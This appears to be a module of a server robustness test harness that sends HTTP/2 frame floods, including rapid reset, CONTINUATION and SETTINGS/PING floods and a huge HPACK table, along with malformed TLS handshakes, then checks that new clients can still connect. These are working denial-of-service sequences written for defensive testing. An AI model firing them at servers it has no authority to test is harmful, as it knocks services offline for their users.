/** Frames of HTTP/2 and handshakes of TLS from a client without a certificate. */
import type { SeededRandom } from '../../harness/index.ts';
import { type Attack, Findings } from '../attack.ts';
import { frame, openTcp, openTls, PREFACE, plainFields, respondTo } from '../wire.ts';

const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
const END = 1 | 4;
const FRAMES = 2_000;
const QUIET = { silentMs: 100, totalMs: 2_000 };

const GET = plainFields([
  [':method', 'GET'],
  [':scheme', 'https'],
  [':path', '/livez'],
  [':authority', 'a'],
]);

type Sequence = (random: SeededRandom) => Buffer;

const many = (make: (at: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: FRAMES }, (_, at) => make(at)));
const word = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};

const sequences: Readonly<Record<string, Sequence>> = {
  'rapid reset': () =>
    many((at) =>
      Buffer.concat([
        frame(HEADERS, END, 2 * at + 1, GET),
        frame(RST_STREAM, 0, 2 * at + 1, word(8)),
      ]),
    ),
  'resets by the server': () =>
    many((at) =>
      Buffer.concat([
        frame(HEADERS, END, 2 * at + 1, GET),
        frame(WINDOW_UPDATE, 0, 2 * at + 1, word(0)),
      ]),
    ),
  'continuations without end': () =>
    Buffer.concat([
      frame(HEADERS, 1, 1, GET),
      many(() => frame(CONTINUATION, 0, 1, plainFields([['x', 'y']]))),
    ]),
  'empty continuations': () =>
    Buffer.concat([
      frame(HEADERS, 1, 1, GET),
      many(() => frame(CONTINUATION, 0, 1, Buffer.alloc(0))),
    ]),
  settings: () => many((at) => frame(SETTINGS, 0, 0, Buffer.concat([Buffer.of(0, 4), word(at)]))),
  pings: () => many(() => frame(PING, 0, 0, Buffer.alloc(8))),
  'windows beyond all': () => many(() => frame(WINDOW_UPDATE, 0, 0, word(0x7fffffff))),
  'empty data': () =>
    Buffer.concat([frame(HEADERS, 4, 1, GET), many(() => frame(0, 0, 1, Buffer.alloc(0)))]),
  'streams that are even': () => many((at) => frame(HEADERS, END, 2 * at + 2, GET)),
  'a huge table': () =>
    Buffer.concat([
      frame(SETTINGS, 0, 0, Buffer.concat([Buffer.of(0, 1), word(0xffffffff)])),
      many((at) =>
        frame(HEADERS, END, 2 * at + 1, Buffer.concat([Buffer.of(0x3f, 0xe1, 0xff, 0x03), GET])),
      ),
    ]),
  'pseudo headers twice': () =>
    many((at) => frame(HEADERS, END, 2 * at + 1, Buffer.concat([GET, GET]))),
  'header names of any bytes': (random) =>
    many((at) =>
      frame(
        HEADERS,
        END,
        2 * at + 1,
        Buffer.concat([GET, plainFields([[String.fromCharCode(random.int(0, 127)), 'x']])]),
      ),
    ),
  'a window of nothing': () =>
    Buffer.concat([
      frame(SETTINGS, 0, 0, Buffer.concat([Buffer.of(0, 4), word(0)])),
      many((at) => frame(HEADERS, END, 2 * at + 1, GET)).subarray(0, 16_000),
    ]),
  'any frames': (random) =>
    many(() =>
      frame(
        random.int(0, 255),
        random.int(0, 255),
        random.int(0, 9),
        bytes(random, random.int(0, 40)),
      ),
    ),
};

const handshakes: Readonly<Record<string, Sequence>> = {
  'any bytes': (random) => bytes(random, 2_000),
  'plain HTTP': () => Buffer.from('GET / HTTP/1.1\r\nHost: a\r\n\r\n'),
  'plain HTTP/2': () => PREFACE,
  'a record that is too long': () =>
    Buffer.concat([Buffer.of(22, 3, 1, 0xff, 0xff), Buffer.alloc(70_000)]),
  'a record that is cut': () => Buffer.of(22, 3, 1, 2, 0, 1, 0, 1),
  'empty records': () =>
    Buffer.concat(Array.from({ length: 1000 }, () => Buffer.of(22, 3, 1, 0, 0))),
  alerts: () => Buffer.concat(Array.from({ length: 1000 }, () => Buffer.of(21, 3, 1, 0, 2, 1, 0))),
  'a hello of any bytes': (random) =>
    Buffer.concat([Buffer.of(22, 3, 1, 0, 200, 1, 0, 0, 196, 3, 3), bytes(random, 194)]),
};

export const frames: Attack = {
  name: 'frames',
  summary: 'rapid resets, floods of every kind of frame, frames of any bytes',
  run: ({ site, random, hasTime }) =>
    rounds(hasTime, sequences, async (make) => {
      const socket = await openTls(site, { alpn: 'h2' });
      await respondTo(socket, Buffer.concat([PREFACE, make(random)]), QUIET);
    }),
};

export const handshakesAttack: Attack = {
  name: 'handshakes',
  summary: 'what is no TLS, or not all of it',
  run: ({ site, random, hasTime }) =>
    rounds(hasTime, handshakes, async (make) => {
      await respondTo(await openTcp(site), make(random), QUIET);
    }),
};

async function rounds(
  hasTime: () => boolean,
  all: Readonly<Record<string, Sequence>>,
  attempt: (make: Sequence) => Promise<void>,
) {
  const findings = new Findings();
  let sent = 0;
  while (hasTime()) {
    const names = Object.keys(all);
    sent += names.length;
    const outcomes = await Promise.allSettled(Object.values(all).map((make) => attempt(make)));
    for (const [at, { status }] of outcomes.entries()) {
      // The next client must be let in, whatever this one did.
      if (status === 'rejected' && hasTime()) findings.add(`no connection for "${names[at]}"`);
    }
  }
  return { sent, findings: findings.lines };
}

function bytes(random: SeededRandom, length: number): Buffer {
  return Buffer.from(Array.from({ length }, () => random.int(0, 255)));
}
